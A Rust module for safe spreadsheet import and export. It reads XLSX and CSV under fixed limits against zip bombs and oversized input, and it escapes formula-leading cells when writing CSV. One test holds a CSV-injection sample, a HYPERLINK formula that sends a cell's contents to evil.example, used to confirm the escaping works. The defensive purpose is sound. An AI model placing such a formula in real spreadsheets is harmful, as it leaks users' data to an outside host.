//! Spreadsheets in and out: reading what people upload (XLSX and CSV) into
//! rows of text, with every cost bounded whatever the file claims, and
//! writing CSV that a spreadsheet program opens without running anything.
//!
//! An XLSX file is a zip archive of XML parts, and a hostile one can claim
//! a cell a million rows down (a reader that builds a dense grid then
//! allocates the whole rectangle), unpack to gigabytes, or hang thousands of
//! attributes on one tag. General spreadsheet libraries trust the file's
//! own numbers (one reserves memory for as many shared strings as the file
//! says it has), so this small reader reads only what an import needs:
//!
//! - the archive's directory is checked before anything is unpacked: how
//!   many entries, how large unpacked, how compressed;
//! - each part is read through a counter that stops at the size the
//!   directory declared, so a lying entry cannot unpack more;
//! - the sheet is read as a stream of cells; only cells with a value count,
//!   and one beyond [`Limits`] ends the reading with [`ReadError::TooLarge`];
//! - no tag may be longer than [`MAX_TAG`] bytes and no cell longer than
//!   [`MAX_CELL_CHARS`] characters.
//!
//! CSV is read field by field with `csv-core`, so a line of a million empty
//! fields costs nothing either.

use std::collections::HashMap;
use std::io::{BufRead, BufReader, Cursor, Read};

use quick_xml::events::{BytesStart, Event};

/// What makes a spreadsheet program read a cell as a formula when it
/// opens a CSV file (OWASP's list): `=SUM(…)`, `+`, `-`, `@`, a tab or a
/// carriage return first.
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A CSV cell as we write it: one that a spreadsheet program would run as
/// a formula gets a leading apostrophe, which it shows as text. So does one
/// that starts with an apostrophe already, so reading undoes exactly this.
pub fn csv_cell(text: &str) -> std::borrow::Cow<'_, str> {
    if text.starts_with(FORMULA_START) || text.starts_with('\'') {
        format!("'{text}").into()
    } else {
        text.into()
    }
}

/// Undoes [`csv_cell`]: an apostrophe before a formula character or
/// another apostrophe goes; any other apostrophe is the text's own.
fn from_csv_cell(text: &str) -> &str {
    match text.strip_prefix('\'') {
        Some(rest) if rest.starts_with(FORMULA_START) || rest.starts_with('\'') => rest,
        _ => text,
    }
}

/// A CSV file whose every cell goes through [`csv_cell`].
pub struct CsvWriter {
    inner: csv::Writer<Vec<u8>>,
}

impl Default for CsvWriter {
    fn default() -> Self {
        Self {
            inner: csv::Writer::from_writer(Vec::new()),
        }
    }
}

impl CsvWriter {
    pub fn row<I, S>(&mut self, cells: I) -> anyhow::Result<()>
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        let cells: Vec<String> = cells
            .into_iter()
            .map(|c| csv_cell(c.as_ref()).into_owned())
            .collect();
        self.inner.write_record(&cells)?;
        Ok(())
    }

    pub fn finish(self) -> anyhow::Result<Vec<u8>> {
        Ok(self.inner.into_inner()?)
    }
}

/// The largest table an import takes.
#[derive(Debug, Clone, Copy)]
pub struct Limits {
    /// Rows, the header included.
    pub rows: usize,
    pub columns: usize,
}

/// Excel's own limit for the text of one cell.
pub const MAX_CELL_CHARS: usize = 32_767;
/// A workbook has a dozen parts; thousands mean something else.
const MAX_ENTRIES: usize = 1_000;
/// What all parts together may unpack to.
pub const MAX_UNPACKED_BYTES: u64 = 64 * 1024 * 1024;
/// How much smaller than its content a large part may be. Spreadsheet XML
/// compresses about tenfold; a bomb, a thousandfold.
const MAX_RATIO: u64 = 200;
/// Parts smaller than this may compress as they like.
const RATIO_FROM_BYTES: u64 = 1024 * 1024;
/// The longest start tag read. A cell's tag is a few dozen bytes.
const MAX_TAG: usize = 16 * 1024;

/// Why a file could not be read; each is a sentence for the person.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ReadError {
    /// Neither CSV nor XLSX, or a damaged one.
    Unreadable,
    /// CSV that is not UTF-8.
    NotUtf8,
    /// A value beyond the last row or column an import takes.
    TooLarge,
    /// An archive that unpacks to more than [`MAX_UNPACKED_BYTES`], has too
    /// many entries or is compressed like a bomb.
    Unpacks,
    /// A cell longer than [`MAX_CELL_CHARS`]; row and column count from 1,
    /// and are 0 when not known (a shared string too long).
    CellTooLong { row: usize, column: usize },
}

/// Rows of cells as text, from the file's first row: the table's index
/// `i` is the file's row `i + 1`. In a workbook, empty rows are kept (as
/// empty vectors), so row numbers stay those people see in their
/// spreadsheet program; in CSV, a row is a record and blank lines are
/// skipped.
pub type Table = Vec<Vec<String>>;

/// Reads an XLSX file (recognised by its zip signature) or else CSV. For
/// XLSX, the first sheet named in `sheets` is read, or else the first sheet.
pub fn read(bytes: &[u8], sheets: &[&str], limits: Limits) -> Result<Table, ReadError> {
    if bytes.starts_with(b"PK\x03\x04") {
        read_xlsx(bytes, sheets, limits)
    } else {
        read_csv(bytes, limits)
    }
}

/// The spreadsheet column name of a 1-based column number: 1 → A, 28 → AB.
pub fn column_name(mut column: usize) -> String {
    let mut name = Vec::new();
    while column > 0 {
        let rem = (column - 1) % 26;
        name.push(b'A' + rem as u8);
        column = (column - 1) / 26;
    }
    name.reverse();
    String::from_utf8(name).unwrap_or_default()
}

/// Collects cells into rows, refusing what lies beyond the limits.
struct Rows {
    limits: Limits,
    table: Table,
}

impl Rows {
    fn new(limits: Limits) -> Self {
        Self {
            limits,
            table: Vec::new(),
        }
    }

    /// Sets the cell at 0-based `row` and `column`; empty values are skipped.
    fn put(&mut self, row: usize, column: usize, value: String) -> Result<(), ReadError> {
        if value.is_empty() {
            return Ok(());
        }
        if row >= self.limits.rows || column >= self.limits.columns {
            return Err(ReadError::TooLarge);
        }
        if value.chars().count() > MAX_CELL_CHARS {
            return Err(ReadError::CellTooLong {
                row: row + 1,
                column: column + 1,
            });
        }
        if self.table.len() <= row {
            self.table.resize_with(row + 1, Vec::new);
        }
        let cells = &mut self.table[row];
        if cells.len() <= column {
            cells.resize_with(column + 1, String::new);
        }
        cells[column] = value;
        Ok(())
    }
}

fn read_csv(bytes: &[u8], limits: Limits) -> Result<Table, ReadError> {
    let text = std::str::from_utf8(bytes).map_err(|_| ReadError::NotUtf8)?;
    let mut input = text.trim_start_matches('\u{feff}').as_bytes();
    let mut reader = csv_core::Reader::new();
    let mut rows = Rows::new(limits);
    // A field longer than a cell may be is refused when the buffer fills.
    let mut field = vec![0u8; MAX_CELL_CHARS * 4];
    let mut filled = 0;
    let (mut row, mut column) = (0, 0);
    loop {
        let (result, read, written) = reader.read_field(input, &mut field[filled..]);
        input = &input[read..];
        filled += written;
        match result {
            csv_core::ReadFieldResult::InputEmpty => {}
            csv_core::ReadFieldResult::OutputFull => {
                return Err(ReadError::CellTooLong {
                    row: row + 1,
                    column: column + 1,
                });
            }
            csv_core::ReadFieldResult::Field { record_end } => {
                let value =
                    std::str::from_utf8(&field[..filled]).map_err(|_| ReadError::NotUtf8)?;
                rows.put(row, column, from_csv_cell(value).to_owned())?;
                filled = 0;
                if record_end {
                    row += 1;
                    column = 0;
                } else {
                    column += 1;
                }
            }
            csv_core::ReadFieldResult::End => break,
        }
    }
    Ok(rows.table)
}

fn read_xlsx(bytes: &[u8], sheets: &[&str], limits: Limits) -> Result<Table, ReadError> {
    check_directory_end(bytes)?;
    let mut archive =
        zip::ZipArchive::new(Cursor::new(bytes)).map_err(|_| ReadError::Unreadable)?;
    let sizes = check_entries(&mut archive)?;
    let mut book = Book {
        archive,
        sizes,
        limits,
    };
    let workbook = book.workbook_path()?;
    let sheet = book.sheet_path(&workbook, sheets)?;
    let strings = book.shared_strings(&workbook)?;
    book.cells(&sheet, &strings)
}

/// Refuses, from the end-of-directory record alone, an archive with more
/// entries than a workbook has, or a ZIP64 one (no plan needs 4 GB).
fn check_directory_end(bytes: &[u8]) -> Result<(), ReadError> {
    const SIGNATURE: &[u8] = b"PK\x05\x06";
    let from = bytes.len().saturating_sub(22 + 65_535);
    let at = bytes[from..]
        .windows(4)
        .rposition(|w| w == SIGNATURE)
        .map(|p| p + from)
        .ok_or(ReadError::Unreadable)?;
    let record = bytes.get(at..at + 22).ok_or(ReadError::Unreadable)?;
    let entries = u16::from_le_bytes([record[10], record[11]]);
    if entries == u16::MAX {
        return Err(ReadError::Unpacks);
    }
    if usize::from(entries) > MAX_ENTRIES {
        return Err(ReadError::Unpacks);
    }
    Ok(())
}

/// Every entry's declared size, once the whole directory passed the checks.
fn check_entries(
    archive: &mut zip::ZipArchive<Cursor<&[u8]>>,
) -> Result<HashMap<String, u64>, ReadError> {
    if archive.len() > MAX_ENTRIES {
        return Err(ReadError::Unpacks);
    }
    let mut sizes = HashMap::new();
    let mut total: u64 = 0;
    for i in 0..archive.len() {
        let entry = archive.by_index_raw(i).map_err(|_| ReadError::Unreadable)?;
        let (size, packed) = (entry.size(), entry.compressed_size());
        total = total.saturating_add(size);
        let bomb = size >= RATIO_FROM_BYTES && size / packed.max(1) > MAX_RATIO;
        if total > MAX_UNPACKED_BYTES || bomb {
            return Err(ReadError::Unpacks);
        }
        let name = entry.name().map_err(|_| ReadError::Unreadable)?;
        sizes.insert(name.into_owned(), size);
    }
    Ok(sizes)
}

/// A part as it unpacks, refused once it gives more than it declared.
struct Declared<R> {
    inner: R,
    left: u64,
}

impl<R: Read> Read for Declared<R> {
    fn read(&mut self, buf: &mut [u8]) -> std::io::Result<usize> {
        let n = self.inner.read(buf)?;
        self.left = self
            .left
            .checked_sub(n as u64)
            .ok_or_else(|| std::io::Error::other("a part unpacks to more than it declares"))?;
        Ok(n)
    }
}

/// The shared strings, packed: one text and where each string ends, so a
/// million short strings cost a few megabytes, not a million allocations.
#[derive(Default)]
struct SharedStrings {
    text: String,
    ends: Vec<usize>,
}

impl SharedStrings {
    fn get(&self, index: usize) -> Option<&str> {
        let end = *self.ends.get(index)?;
        let start = index.checked_sub(1).map_or(0, |i| self.ends[i]);
        self.text.get(start..end)
    }
}

/// An XML reader over one part, borrowing the archive (`'s`) of the file (`'f`).
type XmlReader<'s, 'f> =
    quick_xml::Reader<BufReader<Declared<zip::read::ZipFile<'s, Cursor<&'f [u8]>>>>>;

struct Book<'f> {
    archive: zip::ZipArchive<Cursor<&'f [u8]>>,
    sizes: HashMap<String, u64>,
    limits: Limits,
}

impl<'f> Book<'f> {
    /// An XML reader over the part `name`, or `None` if there is no such part.
    fn part(&mut self, name: &str) -> Result<Option<XmlReader<'_, 'f>>, ReadError> {
        let Some(&size) = self.sizes.get(name) else {
            return Ok(None);
        };
        let file = self
            .archive
            .by_name(name)
            .map_err(|_| ReadError::Unreadable)?;
        let mut xml = quick_xml::Reader::from_reader(BufReader::new(Declared {
            inner: file,
            left: size,
        }));
        let config = xml.config_mut();
        config.check_end_names = false;
        config.expand_empty_elements = true;
        Ok(Some(xml))
    }

    /// Where the workbook part is: what the package relationships name as
    /// the office document, else the usual place.
    fn workbook_path(&mut self) -> Result<String, ReadError> {
        let found = self
            .relationships("_rels/.rels")?
            .into_iter()
            .find(|(_, kind, _)| kind.ends_with("/officeDocument"))
            .map(|(_, _, target)| target.trim_start_matches('/').to_owned());
        Ok(found.unwrap_or_else(|| "xl/workbook.xml".to_owned()))
    }

    /// (id, type, target) of each relationship in a `.rels` part.
    fn relationships(&mut self, path: &str) -> Result<Vec<(String, String, String)>, ReadError> {
        let Some(mut xml) = self.part(path)? else {
            return Ok(Vec::new());
        };
        let mut found = Vec::new();
        let mut buf = Vec::new();
        loop {
            match next_event(&mut xml, &mut buf)? {
                Event::Start(e) if e.local_name().as_ref() == "Relationship" => {
                    let id = attribute(&e, "Id")?.unwrap_or_default();
                    let kind = attribute(&e, "Type")?.unwrap_or_default();
                    let target = attribute(&e, "Target")?.unwrap_or_default();
                    if found.len() < MAX_ENTRIES {
                        found.push((id, kind, target));
                    }
                }
                Event::Eof => return Ok(found),
                _ => {}
            }
        }
    }

    /// The part of the sheet to read: the first of `wanted` that exists,
    /// else the workbook's first sheet.
    fn sheet_path(&mut self, workbook: &str, wanted: &[&str]) -> Result<String, ReadError> {
        let mut sheets: Vec<(String, String)> = Vec::new();
        {
            let mut xml = self.part(workbook)?.ok_or(ReadError::Unreadable)?;
            let mut buf = Vec::new();
            loop {
                match next_event(&mut xml, &mut buf)? {
                    Event::Start(e) if e.local_name().as_ref() == "sheet" => {
                        let name = attribute(&e, "name")?.unwrap_or_default();
                        let id = attribute(&e, "id")?.unwrap_or_default();
                        if sheets.len() < MAX_ENTRIES {
                            sheets.push((name, id));
                        }
                    }
                    Event::Eof => break,
                    _ => {}
                }
            }
        }
        let chosen = wanted
            .iter()
            .find_map(|w| sheets.iter().find(|(name, _)| name == w))
            .or_else(|| sheets.first())
            .ok_or(ReadError::Unreadable)?
            .1
            .clone();
        let (dir, file) = workbook.rsplit_once('/').unwrap_or(("", workbook));
        let rels = if dir.is_empty() {
            format!("_rels/{file}.rels")
        } else {
            format!("{dir}/_rels/{file}.rels")
        };
        let target = self
            .relationships(&rels)?
            .into_iter()
            .find(|(id, _, _)| *id == chosen)
            .map(|(_, _, target)| target)
            .ok_or(ReadError::Unreadable)?;
        Ok(match target.strip_prefix('/') {
            Some(absolute) => absolute.to_owned(),
            None if dir.is_empty() => target,
            None => format!("{dir}/{target}"),
        })
    }

    fn shared_strings(&mut self, workbook: &str) -> Result<SharedStrings, ReadError> {
        let dir = workbook.rsplit_once('/').map_or("", |(d, _)| d);
        let path = if dir.is_empty() {
            "sharedStrings.xml".to_owned()
        } else {
            format!("{dir}/sharedStrings.xml")
        };
        // No table of the limits' size needs more strings than it has cells.
        let most = self.limits.rows.saturating_mul(self.limits.columns);
        let Some(mut xml) = self.part(&path)? else {
            return Ok(SharedStrings::default());
        };
        let mut strings = SharedStrings::default();
        let mut buf = Vec::new();
        loop {
            match next_event(&mut xml, &mut buf)? {
                Event::Start(e) if e.local_name().as_ref() == "si" => {
                    if strings.ends.len() == most {
                        return Err(ReadError::TooLarge);
                    }
                    let text = read_text(&mut xml, "si")?;
                    strings.text.push_str(&text);
                    strings.ends.push(strings.text.len());
                }
                Event::Eof => return Ok(strings),
                _ => {}
            }
        }
    }

    /// Streams the sheet's cells into rows.
    fn cells(&mut self, sheet: &str, strings: &SharedStrings) -> Result<Table, ReadError> {
        let limits = self.limits;
        let mut xml = self.part(sheet)?.ok_or(ReadError::Unreadable)?;
        let mut rows = Rows::new(limits);
        let mut buf = Vec::new();
        // Where the next cell goes when a file leaves out its reference.
        let (mut row, mut column) = (0usize, 0usize);
        loop {
            match next_event(&mut xml, &mut buf)? {
                Event::Start(e) if e.local_name().as_ref() == "row" => {
                    row = match attribute(&e, "r")? {
                        Some(r) => r
                            .parse::<usize>()
                            .ok()
                            .and_then(|r| r.checked_sub(1))
                            .ok_or(ReadError::Unreadable)?,
                        None => row,
                    };
                    column = 0;
                }
                Event::End(e) if e.local_name().as_ref() == "row" => row += 1,
                Event::Start(e) if e.local_name().as_ref() == "c" => {
                    if let Some(reference) = attribute(&e, "r")? {
                        (row, column) = cell_position(&reference).ok_or(ReadError::Unreadable)?;
                    }
                    let kind = attribute(&e, "t")?.unwrap_or_default();
                    let value = cell_value(&mut xml, &kind, strings).map_err(|e| match e {
                        ReadError::CellTooLong { .. } => ReadError::CellTooLong {
                            row: row + 1,
                            column: column + 1,
                        },
                        other => other,
                    })?;
                    rows.put(row, column, value)?;
                    column += 1;
                }
                Event::Eof => return Ok(rows.table),
                _ => {}
            }
        }
    }
}

/// The next event, with tags longer than [`MAX_TAG`] refused.
fn next_event<'b, R: BufRead>(
    xml: &mut quick_xml::Reader<R>,
    buf: &'b mut Vec<u8>,
) -> Result<Event<'b>, ReadError> {
    buf.clear();
    let event = xml
        .read_event_into(buf)
        .map_err(|_| ReadError::Unreadable)?;
    if let Event::Start(e) | Event::Empty(e) = &event
        && e.len() > MAX_TAG
    {
        return Err(ReadError::Unreadable);
    }
    Ok(event)
}

/// The value of the attribute whose local name is `name` (any prefix).
fn attribute(e: &BytesStart<'_>, name: &str) -> Result<Option<String>, ReadError> {
    for attribute in e.attributes().with_checks(false) {
        let attribute = attribute.map_err(|_| ReadError::Unreadable)?;
        if attribute.key.local_name().as_ref() == name {
            let value = attribute
                .normalized_value(quick_xml::XmlVersion::Implicit1_0)
                .map_err(|_| ReadError::Unreadable)?;
            return Ok(Some(value.into_owned()));
        }
    }
    Ok(None)
}

/// 0-based (row, column) of a reference such as `AB12`.
fn cell_position(reference: &str) -> Option<(usize, usize)> {
    let split = reference.find(|c: char| c.is_ascii_digit())?;
    let (letters, digits) = reference.split_at(split);
    if letters.is_empty() || letters.len() > 3 || !letters.bytes().all(|b| b.is_ascii_uppercase()) {
        return None;
    }
    let column = letters
        .bytes()
        .fold(0usize, |n, b| n * 26 + usize::from(b - b'A' + 1));
    let row = digits.parse::<usize>().ok()?.checked_sub(1)?;
    Some((row, column - 1))
}

/// The text of a cell: its `<v>`, or its inline string, looked up in the
/// shared strings when the cell says so.
fn cell_value<R: BufRead>(
    xml: &mut quick_xml::Reader<R>,
    kind: &str,
    strings: &SharedStrings,
) -> Result<String, ReadError> {
    let mut value = String::new();
    let mut buf = Vec::new();
    loop {
        match next_event(xml, &mut buf)? {
            Event::Start(e) if e.local_name().as_ref() == "v" => value = read_text(xml, "v")?,
            Event::Start(e) if e.local_name().as_ref() == "is" => value = read_text(xml, "is")?,
            // A formula's text is not its value.
            Event::Start(e) if e.local_name().as_ref() == "f" => {
                read_text(xml, "f")?;
            }
            Event::End(e) if e.local_name().as_ref() == "c" => break,
            Event::Eof => return Err(ReadError::Unreadable),
            _ => {}
        }
    }
    Ok(match kind {
        "s" => {
            let index = value.trim().parse::<usize>().ok();
            index
                .and_then(|i| strings.get(i))
                .ok_or(ReadError::Unreadable)?
                .to_owned()
        }
        "b" => match value.trim() {
            "1" => "TRUE".to_owned(),
            _ => "FALSE".to_owned(),
        },
        _ => value,
    })
}

/// The text inside the element `end`, with every `<t>` run joined (rich
/// text) and phonetic guides left out; stops at [`MAX_CELL_CHARS`].
fn read_text<R: BufRead>(xml: &mut quick_xml::Reader<R>, end: &str) -> Result<String, ReadError> {
    let mut text = String::new();
    let mut buf = Vec::new();
    // A value's text is the element's own; a string's is in its `<t>` runs.
    let runs = matches!(end, "si" | "is");
    let mut in_run = 0usize;
    let mut phonetic = 0usize;
    loop {
        let collect = (!runs || in_run > 0) && phonetic == 0;
        match next_event(xml, &mut buf)? {
            Event::Start(e) if e.local_name().as_ref() == "rPh" => phonetic += 1,
            Event::End(e) if e.local_name().as_ref() == "rPh" => {
                phonetic = phonetic.saturating_sub(1)
            }
            Event::Start(e) if e.local_name().as_ref() == "t" => in_run += 1,
            Event::End(e) if e.local_name().as_ref() == "t" => in_run = in_run.saturating_sub(1),
            Event::End(e) if e.local_name().as_ref() == end => break,
            Event::Text(t) if collect => text.push_str(&t.xml10_content()),
            Event::CData(t) if collect => text.push_str(&t.xml10_content()),
            Event::GeneralRef(r) if collect => {
                let resolved = match r.as_ref() {
                    "amp" => Some('&'),
                    "lt" => Some('<'),
                    "gt" => Some('>'),
                    "quot" => Some('"'),
                    "apos" => Some('\''),
                    _ => r.resolve_char_ref().ok().flatten(),
                };
                text.push(resolved.ok_or(ReadError::Unreadable)?);
            }
            Event::Eof => return Err(ReadError::Unreadable),
            _ => {}
        }
        // Bytes, not characters: four bytes a character at most.
        if text.len() > MAX_CELL_CHARS * 4 {
            return Err(ReadError::CellTooLong { row: 0, column: 0 });
        }
    }
    Ok(unescape_excel(&text))
}

/// Excel writes characters XML cannot hold as `_xHHHH_`.
fn unescape_excel(text: &str) -> String {
    if !text.contains("_x") {
        return text.to_owned();
    }
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(at) = rest.find("_x") {
        out.push_str(&rest[..at]);
        let tail = &rest[at..];
        let decoded = tail
            .get(2..6)
            .filter(|_| tail.as_bytes().get(6) == Some(&b'_'))
            .and_then(|hex| u32::from_str_radix(hex, 16).ok())
            .and_then(char::from_u32);
        match decoded {
            Some(c) => {
                out.push(c);
                rest = &tail[7..];
            }
            None => {
                out.push_str("_x");
                rest = &tail[2..];
            }
        }
    }
    out.push_str(rest);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    const LIMITS: Limits = Limits {
        rows: 100,
        columns: 10,
    };

    #[test]
    fn cell_references() {
        assert_eq!(cell_position("A1"), Some((0, 0)));
        assert_eq!(cell_position("AB12"), Some((11, 27)));
        assert_eq!(cell_position("XFD1048576"), Some((1_048_575, 16_383)));
        assert_eq!(cell_position("1A"), None);
        assert_eq!(cell_position("A0"), None);
        assert_eq!(column_name(1), "A");
        assert_eq!(column_name(28), "AB");
        assert_eq!(column_name(16_384), "XFD");
    }

    #[test]
    fn csv_rows_keep_their_numbers_and_stop_at_the_limits() {
        let table = read(b"\xef\xbb\xbfa,b\n\n\"x,y\",2\n,\n", &[], LIMITS).unwrap();
        assert_eq!(
            table,
            vec![
                vec!["a".to_owned(), "b".to_owned()],
                vec!["x,y".to_owned(), "2".to_owned()],
            ]
        );
        // Empty fields beyond the last column cost nothing; a value there is refused.
        let wide = format!("a{}\n", ",".repeat(1_000_000));
        assert_eq!(read(wide.as_bytes(), &[], LIMITS).unwrap().len(), 1);
        let far = format!("a{},z\n", ",".repeat(20));
        assert_eq!(read(far.as_bytes(), &[], LIMITS), Err(ReadError::TooLarge));
        let long = "a\n".repeat(101);
        assert_eq!(read(long.as_bytes(), &[], LIMITS), Err(ReadError::TooLarge));
        let huge = "x".repeat(MAX_CELL_CHARS * 4 + 1);
        assert_eq!(
            read(huge.as_bytes(), &[], LIMITS),
            Err(ReadError::CellTooLong { row: 1, column: 1 })
        );
        assert_eq!(read(b"\xff\xfe", &[], LIMITS), Err(ReadError::NotUtf8));
    }

    #[test]
    fn csv_cells_never_run_and_read_back_as_written() {
        let texts = [
            "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
            "+1",
            "-5",
            "@SUM(A1)",
            "\tx",
            "\rx",
            "'=already quoted",
            "'plain apostrophe",
            "''",
            "plain",
            "",
        ];
        let mut w = CsvWriter::default();
        w.row(texts).unwrap();
        let bytes = w.finish().unwrap();
        let written = String::from_utf8(bytes.clone()).unwrap();
        assert!(written.starts_with("\"'=HYPERLINK("), "{written}");
        assert!(written.contains(",'+1,'-5,'@SUM(A1),"), "{written}");
        let back = read(&bytes, &[], LIMITS).unwrap();
        let expected: Vec<&str> = texts[..texts.len() - 1].to_vec();
        assert_eq!(back[0], expected);
        // A person's own apostrophe before ordinary text is kept.
        assert_eq!(read(b"'hello", &[], LIMITS).unwrap()[0], vec!["'hello"]);
    }

    #[test]
    fn excel_escapes() {
        assert_eq!(unescape_excel("a_x000D_b"), "a\rb");
        assert_eq!(unescape_excel("_x_y_xZZZZ_"), "_x_y_xZZZZ_");
    }

    #[test]
    fn a_written_workbook_reads_back() {
        let mut book = rust_xlsxwriter::Workbook::new();
        let first = book.add_worksheet();
        first.set_name("Other").unwrap();
        first.write_string(0, 0, "ignored").unwrap();
        let sheet = book.add_worksheet();
        sheet.set_name("Plan").unwrap();
        sheet.write_string(0, 0, "code").unwrap();
        sheet.write_string(0, 2, "title & <more>").unwrap();
        sheet.write_number(2, 1, 25_000).unwrap();
        sheet.write_string(2, 2, "line\none").unwrap();
        let bytes = book.save_to_buffer().unwrap();
        let table = read(&bytes, &["Missing", "Plan"], LIMITS).unwrap();
        assert_eq!(table.len(), 3);
        assert_eq!(table[0], vec!["code", "", "title & <more>"]);
        assert!(table[1].is_empty());
        assert_eq!(table[2], vec!["", "25000", "line\none"]);
        // Without a sheet of the wanted name, the first one.
        assert_eq!(
            read(&bytes, &["Missing"], LIMITS).unwrap()[0],
            vec!["ignored"]
        );
    }
}
